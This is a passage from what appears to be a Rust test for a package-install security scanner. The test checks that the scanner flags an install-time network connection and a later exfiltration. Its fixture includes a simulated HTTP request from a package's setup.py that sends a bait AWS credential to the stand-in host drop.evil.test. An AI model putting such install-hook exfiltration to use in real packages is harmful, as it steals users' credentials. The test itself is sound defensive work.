        (
            0,
            alert(
                "i-2",
                2.0,
                "network-connect",
                "install",
                setup_culprit("q2", "b", "2.0"),
                connect("connect", "192.0.2.1:8443", 8443),
            ),
        ),
    ];
    // The leak comes later, on a connection no alert is near (a child premain did not see).
    input.capture.flows = vec![
        http_flow(1.01, "192.0.2.1:443", "pypi.org", ""),
        http_flow(30.0, "192.0.2.1:80", "drop.evil.test", &format!("k={AWS_BAIT}")),
    ];
    let report = Report::build(&input, &Policy::default());
    assert!(findings(&report, "a").findings.is_empty());
    let b = findings(&report, "b");
    let rules: Vec<&str> = b.findings.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(rules, ["network-connect", "exfiltration"]);
    assert_eq!(b.findings[1].culprit.path.as_deref(), Some("<source>/setup.py"));
    assert_eq!(b.findings[1].target.host.as_deref(), Some("drop.evil.test"));
    assert_eq!(report.baits[0].leaked[0].distributions, ["b"]);
    assert_eq!(report.baits[0].leaked[0].encoding, "raw");
}
